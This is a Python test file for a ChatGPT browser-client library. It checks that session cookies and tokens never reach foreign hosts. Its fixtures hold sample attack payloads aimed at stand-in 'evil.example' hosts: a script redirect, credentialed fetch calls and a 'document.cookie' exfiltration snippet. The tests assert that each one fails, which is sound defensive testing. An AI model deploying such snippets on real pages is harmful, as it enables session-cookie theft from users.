"""Where secrets go: to the API's own origin, along with the site between its own two names, and nowhere else."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from chatgpt_browser import APIConnectionError, ChatGPTAPI, OriginError
from chatgpt_browser.testing import Answer, FakeChatGPT, Gate, Reply
from tests.support.scripted_site import base_urls, can_send, posts_of

if TYPE_CHECKING:
    from chatgpt_browser.testing import RecordedRequest
    from tests.support.client_fixtures import Connect, Serve

OLD, NEW = "https://chat.openai.com", "https://chatgpt.com"
COOKIE = "__Secure-next-auth.session-token"


def mapped(hosts: dict[str, FakeChatGPT]) -> dict[str, Any]:
    """Options for a browser that takes these hosts to be our servers, and finds no other."""
    rules = [f"MAP {host} 127.0.0.1:{server.port}" for host, server in hosts.items()]
    return {
        "browser_args": [f"--host-resolver-rules={', '.join([*rules, 'EXCLUDE 127.0.0.1'])}"],
        "ignore_https_errors": True,
    }


def saw_secrets(server: FakeChatGPT) -> bool:
    return any(request.cookies or request.bearer for request in server.requests)


@pytest.mark.parametrize(("old", "new"), [(OLD, NEW), (NEW, OLD)])
def test_the_site_moves_between_its_own_two_names(
    serve: Serve, connect: Connect, caplog: pytest.LogCaptureFixture, old: str, new: str
) -> None:
    before, after = (
        serve(tls=True, public_origin=old),
        serve(tls=True, public_origin=new, rotate_session_token=True),
    )
    after.sign_in(before.session_token)
    before.redirect_to = new
    hosts = {old.removeprefix("https://"): before, new.removeprefix("https://"): after}
    api = connect(before, **mapped(hosts))
    given = before.session_token

    assert can_send(api)

    assert [request.method for request in before.requests] == ["GET"]
    assert posts_of(before.requests) == []
    [post] = posts_of(after.requests)
    assert post.headers["origin"] == new
    assert given in {request.cookies.get(COOKIE) for request in after.requests}
    assert api.session_token == after.session_token != given
    assert f"the site has moved from {old} to {new}" in caplog.text

    seen = len(before.requests)
    assert can_send(api)
    assert len(before.requests) == seen, "once it is known where the site is, nobody asks at the old place"


@pytest.mark.parametrize("move", [False, True], ids=["to a stranger at once", "by way of the new name"])
def test_another_host_gets_no_secret(serve: Serve, connect: Connect, move: bool) -> None:
    old = serve(tls=True, public_origin=OLD)
    new = serve(tls=True, public_origin=NEW, session_token=old.session_token)
    evil = serve(tls=True, public_origin="https://chatgpt.com.evil.example", session_token=old.session_token)
    hosts = {"chat.openai.com": old, "chatgpt.com": new, "chatgpt.com.evil.example": evil}
    old.redirect_to = NEW if move else evil.origin
    new.redirect_to = evil.origin
    api = connect(old, **mapped(hosts))

    with pytest.raises(OriginError) as caught:
        api.send_message("hello")

    assert caught.value.origin == evil.origin
    assert evil.origin in str(caught.value)
    assert len(evil.requests) >= 1
    assert not saw_secrets(evil)
    assert posts_of(old.requests) + posts_of(new.requests) == []

    old.redirect_to = new.redirect_to = None
    assert can_send(api)
    assert not saw_secrets(evil)


def test_a_move_that_comes_later(serve: Serve, connect: Connect) -> None:
    """The API itself answers with a redirect: nothing follows it, the token least of all."""
    evil = serve(tls=True, public_origin="https://evil.example")
    server = serve(tls=True, public_origin=NEW)
    api = connect(server, **mapped({"chatgpt.com": server, "evil.example": evil}))
    assert can_send(api)
    server.redirect_to = evil.origin

    with pytest.raises(OriginError):
        api.send_message("hello")
    assert evil.requests == []


def test_a_move_that_comes_later_is_followed_by_the_next_call(serve: Serve, connect: Connect) -> None:
    """And takes no reply along that is under way."""
    before, after, gate = serve(tls=True, public_origin=OLD), serve(tls=True, public_origin=NEW), Gate()
    after.sign_in(before.session_token)
    hosts = {"chat.openai.com": before, "chatgpt.com": after}
    api = connect(before, **mapped(hosts), max_concurrent_messages=2)
    before.script(Reply(pieces=["one", " two"], hold_after=1, gate=gate))
    with api.stream_message("under way") as stream:
        assert next(stream) == "one"
        before.redirect_to = NEW
        for _ in range(2):
            with pytest.raises(OriginError):
                api.send_message("hello")
        gate.open()
        assert next(stream) == " two"
    assert can_send(api)
    assert posts_of(after.requests)[-1].status == 200


def test_a_document_that_goes_elsewhere_by_script(serve: Serve, connect: Connect) -> None:
    evil = serve(tls=True, public_origin="https://evil.example")
    server = serve(tls=True, public_origin=NEW)
    script = f'<script>location = "{evil.origin}/"</script>'
    server.script_path("/api/auth/session", Answer(403, script, [("cf-mitigated", "challenge")]))
    api = connect(server, **mapped({"chatgpt.com": server, "evil.example": evil}))

    with pytest.raises(OriginError) as caught:
        api.send_message("hello")
    assert caught.value.origin == evil.origin
    assert evil.requests
    assert not saw_secrets(evil)


def test_the_cookie_is_for_the_apis_host_alone(serve: Serve, connect: Connect) -> None:
    """Another host and a host below it are sent no cookie by the page; it is out of reach of scripts, and needs https."""
    hosts = ("chatgpt.com", "sub.chatgpt.com", "evil.example")
    server, sub, evil = (serve(tls=True, public_origin=f"https://{host}") for host in hosts)
    send = "<script>fetch('{0}/asked', {{credentials: 'include', mode: 'no-cors'}})</script>"
    page = "".join(f'<img src="{each.origin}/pixel">' + send.format(each.origin) for each in (sub, evil))
    server.script_path(
        "/api/auth/session", Answer(200, page + "<script>fetch('/js?' + document.cookie)</script>")
    )
    api = connect(server, **mapped(dict(zip(hosts, (server, sub, evil), strict=True))))
    assert can_send(api)

    for other in (sub, evil):
        for path in ("/pixel", "/asked"):
            other.wait_for_request(path)
        assert not saw_secrets(other)
    assert server.wait_for_request("/js").query == ""


def token_of(length: int) -> str:
    return ("0123456789abcdefghijklmnopqrstuvwxyz-_." * 400)[:length]


def session_cookies(request: RecordedRequest) -> dict[str, str]:
    return {name: value for name, value in request.cookies.items() if "session-token" in name}


@pytest.mark.parametrize(
    ("tls", "length"), [(False, 1_000), (True, 3_933), (False, 3_934), (True, 12_000)], ids=str
)
def test_tokens_of_any_length_arrive_whole(serve: Serve, connect: Connect, tls: bool, length: int) -> None:
    server = serve(tls=tls, session_token=token_of(length))
    api = connect(server, ignore_https_errors=tls)
    assert can_send(api)

    family = COOKIE if tls else COOKIE.removeprefix("__Secure-")
    names = [family] if length <= 3_933 else [f"{family}.{n}" for n in range(-(-length // 3_933))]
    for request in server.requests:
        cookies = session_cookies(request)
        assert list(cookies) == names
        assert "".join(cookies.values()) == token_of(length)
        assert token_of(length) not in str(request.headers.get("authorization"))
    assert api.get_is_authenticated()
    assert api.session_token == token_of(length)


def test_a_shorter_token_leaves_no_stale_part(serve: Serve, connect: Connect) -> None:
    """From four cookies to one, to three, and back: the server joins whatever it gets."""
    lengths = [100, 9_000, 3_933, 3_934, 500]
    server = serve(session_token=token_of(12_000), rotate_session_token=[token_of(n) for n in lengths])
    api = connect(server, access_token_ttl=0)
    assert api.session_token == token_of(12_000)
    for _ in lengths:  # one more than is needed: the page's own visit rotates it, too
        assert api.get_is_authenticated()

    assert api.session_token == server.session_token == token_of(500)
    assert can_send(api)
    assert session_cookies(posts_of(server.requests)[-1]) == {COOKIE.removeprefix("__Secure-"): token_of(500)}


def test_http_is_for_loopback_alone(serve: Serve) -> None:
    url = "http://chat.example"
    with pytest.raises(ValueError, match="must be https"):
        ChatGPTAPI("token", api_base_url=f"{url}/api", backend_api_base_url=f"{url}/backend-api")


def test_a_certificate_that_nobody_vouches_for(serve: Serve, caplog: pytest.LogCaptureFixture) -> None:
    """It is not asked for a second time, by a second browser least of all: no try would end in another way."""
    caplog.set_level("INFO", "chatgpt_browser")
    server = serve(tls=True)
    with ChatGPTAPI(server.session_token, retries=2, **base_urls(server)) as api:
        with pytest.raises(APIConnectionError, match="ERR_CERT_AUTHORITY_INVALID") as caught:
            api.ensure_auth()

    assert caught.value.permanent
    assert "trusts the authority" in str(caught.value)
    assert "ignore_https_errors=True" in str(caught.value)
    assert server.requests == []
    assert caplog.text.count("browser up") == 1
    assert "trying again" not in caplog.text
